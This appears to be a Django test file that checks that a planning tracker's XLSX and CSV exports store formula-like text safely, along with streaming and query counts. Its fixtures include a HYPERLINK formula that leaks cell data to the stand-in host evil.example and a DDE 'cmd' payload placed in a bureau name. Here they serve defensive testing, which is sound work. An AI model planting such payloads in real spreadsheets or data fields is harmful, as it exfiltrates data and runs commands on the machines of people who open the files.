@@ -1,0 +1,121 @@
+"""Text that begins like a formula leaves the tracker as text (issue 13, item 2): a
+title, pillar, bureau or owner name starting with = + - @, a tab or a carriage return
+is typed as a string in the XLSX and prefixed with an apostrophe in the CSV. The files
+are read back with openpyxl and csv, as a spreadsheet would read them."""
+
+import csv
+import io
+
+import pytest
+from django.db import connection
+from django.test.utils import CaptureQueriesContext
+from django.urls import reverse
+from openpyxl import load_workbook
+
+from plans import spreadsheets
+from plans.spreadsheets import Column, Table
+
+ATTACK = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+HOSTILE = [ATTACK, "+1+1", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1", "=1+1"]
+
+
+@pytest.fixture
+def hostile_tasks(make_task, city):
+    city.finance.name_ko = "=cmd|' /C calc'!A0"
+    city.finance.save(update_fields=["name_ko"])
+    city.finance_staff.last_name, city.finance_staff.first_name = "@SUM(1+1)", ""
+    city.finance_staff.save(update_fields=["last_name", "first_name"])
+    return [
+        make_task(
+            code=f"9-{index:02}",
+            title_ko=title,
+            pillar_ko="-바운스",
+            bureau=city.finance,
+            owner=city.finance_staff,
+        )
+        for index, title in enumerate(HOSTILE)
+    ]
+
+
+def xlsx_sheet(response):
+    assert response.status_code == 200
+    return load_workbook(io.BytesIO(response.getvalue())).active
+
+
+def test_it_types_formula_like_xlsx_cells_as_text(office_client, hostile_tasks):
+    sheet = xlsx_sheet(office_client.get(reverse("review:task_export_xlsx"), {"flag": "all"}))
+    header = [cell.value for cell in sheet[1]]
+    names = ("핵심과제", "추진 전략", "실국", "담당자")
+    title, pillar, bureau, owner = (header.index(name) for name in names)
+    ours = [row for row in sheet.iter_rows(min_row=2) if str(row[0].value).startswith("9-")]
+    # Without lxml, XML reads a carriage return back as a line feed; else as typed.
+    assert sorted(row[title].value.replace("\r", "\n") for row in ours) == sorted(
+        title.replace("\r", "\n") for title in HOSTILE
+    )
+    for row in ours:
+        for index in (title, pillar, bureau, owner):
+            cell = row[index]
+            # Kept exactly as typed, but a string, never a formula.
+            assert cell.data_type == "s", (cell.coordinate, cell.value)
+            assert cell.quotePrefix
+        assert row[pillar].value == "-바운스"
+        assert row[bureau].value == "=cmd|' /C calc'!A0"
+        assert row[owner].value == "@SUM(1+1)"
+    # No formula anywhere in the file.
+    assert not any(cell.data_type == "f" for row in sheet.iter_rows() for cell in row)
+
+
+def test_it_prefixes_formula_like_csv_cells_with_an_apostrophe(office_client, hostile_tasks):
+    response = office_client.get(reverse("review:task_export_csv"), {"flag": "all"})
+    assert response.status_code == 200
+    rows = list(csv.reader(io.StringIO(response.getvalue().decode("utf-8-sig"), newline="")))
+    ours = [row for row in rows if row[0].startswith("9-")]
+    assert sorted(row[4] for row in ours) == sorted("'" + title for title in HOSTILE)
+    for row in ours:
+        assert row[2] == "'=cmd|' /C calc'!A0"
+        assert row[3] == "'-바운스"
+        assert row[11] == "'@SUM(1+1)"
+    # Numbers and dates are left as they are: only text is neutralised.
+    assert all(row[6].isdigit() for row in ours)
+    assert all(row[9][:1].isdigit() for row in ours)
+
+
+def test_ordinary_text_and_numbers_are_left_alone():
+    table = Table("표", [Column("a", 5), Column("b", 5)], [["보통 제목", -5], ["a=b", 3]])
+    workbook = io.BytesIO()
+    spreadsheets.write_xlsx(table, workbook)
+    sheet = load_workbook(workbook).active
+    assert [[c.value for c in row] for row in sheet.iter_rows(min_row=2)] == [
+        ["보통 제목", -5],
+        ["a=b", 3],
+    ]
+    assert sheet["B2"].data_type == "n" and not sheet["A2"].quotePrefix
+    text = b"".join(spreadsheets.csv_chunks(table)).decode("utf-8-sig")
+    assert list(csv.reader(io.StringIO(text))) == [["a", "b"], ["보통 제목", "-5"], ["a=b", "3"]]
+
+
+def test_control_characters_excel_cannot_store_do_not_fail_the_xlsx():
+    table = Table("t", [Column("a", 5)], [["제목\x01\x0b끝"], ["\x02=1+1"]])
+    workbook = io.BytesIO()
+    assert spreadsheets.write_xlsx(table, workbook) == 2
+    sheet = load_workbook(workbook).active
+    assert sheet["A2"].value == "제목끝"
+    assert sheet["A3"].value == "=1+1" and sheet["A3"].data_type == "s"
+
+
+def test_the_exports_are_streamed_in_a_fixed_number_of_queries(office_client, make_task, city):
+    """Sent in chunks as they are written (memory stays flat), and the same queries for
+    4 tasks as for 40: the rows come from one query, read in chunks."""
+
+    def queries(name):
+        with CaptureQueriesContext(connection) as captured:
+            response = office_client.get(reverse(name), {"flag": "all"})
+            assert response.streaming
+            response.getvalue()
+        return len(captured.captured_queries)
+
+    few = {name: queries(name) for name in ("review:task_export_xlsx", "review:task_export_csv")}
+    for index in range(36):
+        make_task(code=f"8-{index:02}", owner=city.finance_staff, bureau=city.finance)
+    many = {name: queries(name) for name in few}
+    assert many == few
